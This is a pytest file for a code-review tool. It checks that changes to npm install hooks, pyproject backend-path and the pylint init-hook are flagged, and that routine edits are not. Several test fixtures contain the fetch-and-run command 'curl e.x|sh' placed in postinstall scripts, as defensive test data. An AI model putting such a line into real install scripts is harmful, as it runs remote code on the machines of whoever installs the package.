"""A review of two commits (PR mode, `review --base --head`) flags a change to the parts of
a shared file that run code — a `package.json`'s install scripts, a `pyproject.toml`'s
`backend-path` or pylint `init-hook` — as an `executed-config-change`, naming the key; the
rest of those files (a dependency, another script) is routine. Real git repositories, the
cases generated from a library of (base, head) file pairs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reviewloop.config import load_settings
from reviewloop.git.repository import open_repository
from reviewloop.runs.trusted import base_config, config_findings
from tests.support.repos import branch_repo

PACKAGE = {"name": "web", "version": "1.0.0", "scripts": {"test": "jest"},
           "dependencies": {"react": "^18"}}


def _package(**scripts: str) -> str:
    return json.dumps({**PACKAGE, "scripts": {**PACKAGE["scripts"], **scripts}}, indent=2)


FLAGGED = [
    *((f"{folder}package.json", _package(), _package(**{hook: "node setup.js"}),
       f"scripts.{hook} added") for folder in ("", "packages/ui/")
      for hook in ("preinstall", "install", "postinstall", "prepare", "prepublish")),
    ("package.json", _package(postinstall="node a.js"), _package(postinstall="curl e.x|sh"),
     "scripts.postinstall changed"),
    *((f"{folder}package.json", _package(postinstall=f"{run} setup", setup="node a.js"),
       _package(postinstall=f"{run} setup", setup="node a.js && curl e.x|sh"),
       "scripts.setup changed (run by scripts.postinstall: postinstall → setup)")
      for folder in ("", "web/") for run in ("npm run", "yarn", "pnpm run", "run-s")),
    ("lib/pyproject.toml", '[build-system]\nrequires = ["flit_core"]\n',
     '[build-system]\nrequires = ["flit_core"]\nbackend-path = ["."]\n',
     "build-system.backend-path added"),
    ("pyproject.toml", '[project]\nname = "a"\n',
     '[project]\nname = "a"\n\n[tool.pylint.main]\ninit-hook = "import os"\n',
     "tool.pylint.main.init-hook added"),
]
ROUTINE = [
    ("package.json", _package(), json.dumps({**PACKAGE, "version": "1.1.0",
                                             "dependencies": {"react": "^19"}})),
    ("package.json", _package(), _package(build="tsc", posttest="echo ok")),
    ("lib/pyproject.toml", '[project]\nname = "a"\n', '[project]\nname = "a"\nversion = "2"\n'),
]


def _flagged(tmp_path: Path, path: str, before: str, after: str) -> list[tuple[str, str, str]]:
    root = branch_repo(tmp_path / "repo", {path: before}, {path: after})
    repo = open_repository(root)
    with base_config(repo, "main", "feature", lambda r, c: load_settings(r, environ={}),
                     None) as trusted:
        return [(f.file, f.rule or "", f.rationale) for f in config_findings(repo, trusted)
                if f.rule == "executed-config-change"]


@pytest.mark.parametrize(("path", "before", "after", "said"), FLAGGED)
def test_a_part_that_runs_code_changed_is_flagged_naming_it(tmp_path: Path, path: str,
                                                            before: str, after: str,
                                                            said: str) -> None:
    [(file, rule, why)] = _flagged(tmp_path, path, before, after)
    assert (file, rule) == (path, "executed-config-change")
    assert f"adds or edits it ({said})." in why


@pytest.mark.parametrize(("path", "before", "after"), ROUTINE)
def test_the_rest_of_those_files_is_routine(tmp_path: Path, path: str, before: str,
                                            after: str) -> None:
    assert _flagged(tmp_path, path, before, after) == []
